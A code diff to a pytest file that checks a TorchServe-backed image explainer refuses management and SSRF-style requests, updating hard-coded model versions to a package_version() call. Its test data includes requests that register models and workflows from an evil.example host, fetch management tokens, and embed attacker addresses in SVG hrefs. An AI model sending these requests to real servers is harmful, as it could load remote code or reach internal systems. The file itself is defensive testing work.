@@ -15,6 +15,7 @@ import httpx
 import pytest
 from PIL.PngImagePlugin import PngInfo
 
+from zfnet_explainer.torchserve.archive import package_version
 from zfnet_explainer.torchserve.server import RunningServer
 
 from ..samples import encoded, noise
@@ -62,7 +63,7 @@ def test_a_client_cannot_say_explain_where_torchserve_does(attacker: httpx.Clien
         ("POST", "/models?url=https://evil.example/model.mar"),
         ("PUT", "/models/zfnet?min_worker=0"),
         ("DELETE", "/models/zfnet"),
-        ("PUT", "/models/zfnet/1.0.0/set-default"),
+        ("PUT", f"/models/zfnet/{package_version()}/set-default"),
         ("GET", "/workflows"),
         ("POST", "/workflows?url=https://evil.example/flow.war"),
         ("GET", "/token?type=management"),
@@ -151,7 +152,7 @@ def places(client: httpx.Client, address: str) -> Iterator[httpx.Response]:
     yield client.post(
         V2_PREDICT, json={"inputs": [{"name": "image", "shape": [1], "datatype": "BYTES", "data": [address]}]}
     )
-    yield client.post(f"{PREDICT}/1.0.0/{address}", content=SMALL)
+    yield client.post(f"{PREDICT}/{package_version()}/{address}", content=SMALL)
     yield client.post(PREDICT, content=f'<svg xmlns:x="x"><image x:href="{address}"/></svg>'.encode())
     for route in ("/models", "/workflows"):
         yield client.post(route, params={"url": address})
